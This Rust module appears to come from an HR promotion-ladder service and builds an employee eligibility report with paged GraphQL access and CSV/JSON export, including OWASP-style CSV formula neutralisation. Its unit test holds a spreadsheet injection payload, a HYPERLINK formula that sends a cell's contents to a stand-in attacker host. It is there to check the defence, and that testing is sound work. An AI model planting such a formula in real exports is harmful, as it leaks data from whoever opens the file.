//! The eligibility report: one row per employee and ladder step out of
//! their current role, with status, track, eligible-on date and gaps — what
//! HR pastes into a spreadsheet. `rungs export eligibility` streams it and
//! GraphQL's `eligibilityReport` pages through it; both come through here.
//!
//! Every row comes from `services::progression::evaluate` fed by
//! `db::facts::facts_of`, exactly as the single-employee `progression`, so
//! the report cannot disagree with it. People are read in keyset chunks by
//! id, so memory stays bounded whatever the size of the organisation.
//! Only people hired on or before the evaluation date are in the report (as
//! on the dashboards).

use std::collections::HashMap;

use chrono::NaiveDate;
use sea_orm::{ColumnTrait, EntityTrait, QueryFilter, QueryOrder, QuerySelect};

use crate::auth::Principal;
use crate::db::entities::employee;
use crate::db::facts::{facts_of, Facts, Ladder};
use crate::db::Db;
use crate::domain::eligibility::{self, Gap, StepRules};
use crate::domain::enums::{EligibilityStatus, PromotionTrack};
use crate::error::{AppError, AppResult};
use crate::services::progression;

/// Rows per employee a row key leaves room for: a row's key is
/// `employee id * KEY_STRIDE + option index` (cursors are row keys).
pub const KEY_STRIDE: i64 = 1_000;

/// People read per chunk by the export.
const EXPORT_CHUNK: u64 = 2_000;

/// One employee and one ladder step out of their role.
#[derive(Debug, Clone, PartialEq)]
pub struct ReportRow {
    /// Orders rows and is what cursors encode (see `KEY_STRIDE`).
    pub key: i64,
    pub employee_id: i64,
    pub employee_number: String,
    pub name: String,
    pub site: String,
    pub market: String,
    /// Job role code.
    pub current_role: String,
    /// Job role code.
    pub target_role: String,
    pub status: EligibilityStatus,
    pub track: Option<PromotionTrack>,
    pub eligible_on: Option<NaiveDate>,
    pub gaps: Vec<Gap>,
}

impl ReportRow {
    /// The gaps' messages joined with "; " (one spreadsheet cell).
    pub fn gaps_text(&self) -> String {
        self.gaps
            .iter()
            .map(|g| g.message.as_str())
            .collect::<Vec<_>>()
            .join("; ")
    }
}

/// The rows of up to `limit` people with ids from `from_id` on, in key
/// order, and the last id read (`None`: nobody left).
async fn chunk(
    db: &Db,
    ladder: &Ladder,
    as_of: NaiveDate,
    from_id: i64,
    limit: u64,
) -> AppResult<(Vec<ReportRow>, Option<i64>)> {
    let people = employee::Entity::find()
        .filter(employee::Column::Id.gte(from_id))
        .filter(employee::Column::HiredOn.lte(as_of))
        .order_by_asc(employee::Column::Id)
        .limit(limit)
        .all(&db.conn)
        .await?;
    let Some(last) = people.last().map(|p| p.id) else {
        return Ok((vec![], None));
    };
    let ids: Vec<i64> = people.iter().map(|p| p.id).collect();
    let facts = facts_of(&db.conn, &ids).await?;
    let mut rows = Vec::new();
    let none = Facts::default();
    let mut rules: HashMap<(i64, String), Vec<StepRules>> = HashMap::new();
    for person in people {
        let f = facts.get(&person.id).unwrap_or(&none);
        let steps = rules
            .entry((person.job_role_id, person.market.clone()))
            .or_insert_with(|| ladder.step_rules(person.job_role_id, &person.market));
        let result = eligibility::evaluate(
            &progression::employee_facts(ladder, &person, f),
            steps,
            as_of,
        );
        let current = ladder
            .role(person.job_role_id)
            .map(|r| r.code.clone())
            .unwrap_or_default();
        for (index, option) in result.options.into_iter().enumerate() {
            let target = ladder
                .step(option.step_id)
                .and_then(|s| ladder.role(s.to_role_id))
                .map(|r| r.code.clone())
                .unwrap_or_default();
            rows.push(ReportRow {
                key: person.id * KEY_STRIDE + (index as i64).min(KEY_STRIDE - 1),
                employee_id: person.id,
                employee_number: person.employee_number.clone(),
                name: person.name.clone(),
                site: person.site.clone(),
                market: person.market.clone(),
                current_role: current.clone(),
                target_role: target,
                status: option.status,
                track: option.track,
                eligible_on: option.eligible_on,
                gaps: option.gaps,
            });
        }
    }
    Ok((rows, Some(last)))
}

/// Every row, chunk by chunk, handed to `sink` (the command line's export).
pub async fn for_each_chunk(
    db: &Db,
    ladder: &Ladder,
    as_of: NaiveDate,
    mut sink: impl FnMut(&[ReportRow]) -> anyhow::Result<()>,
) -> anyhow::Result<usize> {
    let mut from = 0i64;
    let mut count = 0usize;
    loop {
        let (rows, last) = chunk(db, ladder, as_of, from, EXPORT_CHUNK)
            .await
            .map_err(AppError::into_anyhow)?;
        let Some(last) = last else {
            return Ok(count);
        };
        count += rows.len();
        sink(&rows)?;
        from = last + 1;
    }
}

/// A page of the report for HR and ADMIN (others: FORBIDDEN): up to
/// `first` rows with keys after `after`, whether more follow, and the
/// total number of rows.
pub async fn page(
    db: &Db,
    principal: &Principal,
    ladder: &Ladder,
    as_of: NaiveDate,
    first: u64,
    after: Option<i64>,
) -> AppResult<(Vec<ReportRow>, bool, u64)> {
    principal.require_hr()?;
    let total = total(db, ladder, as_of).await?;
    let after = after.unwrap_or(-1);
    let mut from = if after < 0 { 0 } else { after / KEY_STRIDE };
    let mut rows: Vec<ReportRow> = Vec::new();
    let batch = (first + 1).clamp(50, 500);
    while rows.len() as u64 <= first {
        let (chunk, last) = chunk(db, ladder, as_of, from, batch).await?;
        let Some(last) = last else {
            break;
        };
        rows.extend(chunk.into_iter().filter(|r| r.key > after));
        from = last + 1;
    }
    let (rows, has_next) = crate::db::paging::split(rows, first);
    Ok((rows, has_next, total))
}

/// How many rows the report has: people per role (hired by `as_of`) times
/// the steps out of that role.
async fn total(db: &Db, ladder: &Ladder, as_of: NaiveDate) -> AppResult<u64> {
    let per_role: Vec<(i64, i64)> = employee::Entity::find()
        .select_only()
        .column(employee::Column::JobRoleId)
        .column_as(employee::Column::Id.count(), "n")
        .filter(employee::Column::HiredOn.lte(as_of))
        .group_by(employee::Column::JobRoleId)
        .into_tuple()
        .all(&db.conn)
        .await?;
    let steps: HashMap<i64, u64> = per_role
        .iter()
        .map(|(role, _)| (*role, ladder.steps_from(*role).count() as u64))
        .collect();
    Ok(per_role
        .iter()
        .map(|(role, n)| (*n).max(0) as u64 * steps.get(role).copied().unwrap_or(0))
        .sum())
}

/// The CSV header of the export.
pub const CSV_HEADER: &[&str] = &[
    "employee_number",
    "name",
    "site",
    "market",
    "current_role",
    "target_role",
    "status",
    "track",
    "eligible_on",
    "gaps",
];

/// A cell a spreadsheet will not run as a formula (OWASP's CSV injection
/// advice): one that starts with `=`, `+`, `-`, `@`, a tab or a carriage
/// return gets a leading apostrophe, which spreadsheets show as text.
pub fn neutralise(cell: String) -> String {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}")
    } else {
        cell
    }
}

/// A row as CSV fields, in `CSV_HEADER` order, each neutralised.
pub fn csv_fields(row: &ReportRow) -> [String; 10] {
    raw_csv_fields(row).map(neutralise)
}

fn raw_csv_fields(row: &ReportRow) -> [String; 10] {
    [
        row.employee_number.clone(),
        row.name.clone(),
        row.site.clone(),
        row.market.clone(),
        row.current_role.clone(),
        row.target_role.clone(),
        row.status.as_str().to_owned(),
        row.track.map(|t| t.as_str().to_owned()).unwrap_or_default(),
        row.eligible_on.map(|d| d.to_string()).unwrap_or_default(),
        row.gaps_text(),
    ]
}

/// A row as a JSON object (the same fields, camelCase, gaps as a list).
pub fn json_of(row: &ReportRow) -> serde_json::Value {
    serde_json::json!({
        "employeeNumber": row.employee_number,
        "name": row.name,
        "site": row.site,
        "market": row.market,
        "currentRole": row.current_role,
        "targetRole": row.target_role,
        "status": row.status.as_str(),
        "track": row.track.map(|t| t.as_str()),
        "eligibleOn": row.eligible_on.map(|d| d.to_string()),
        "gaps": row.gaps.iter().map(|g| serde_json::json!({
            "kind": g.kind.as_str(), "message": g.message,
        })).collect::<Vec<_>>(),
    })
}

#[cfg(test)]
mod csv_tests {
    use super::neutralise;

    #[test]
    fn formulas_are_neutralised_and_plain_text_is_kept() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(neutralise(formula.into()), format!("'{formula}"));
        }
        for plain in ["Yui Sato", "2026-11-26", "", "a=b", "needs Coaching 3"] {
            assert_eq!(neutralise(plain.into()), plain);
        }
    }
}
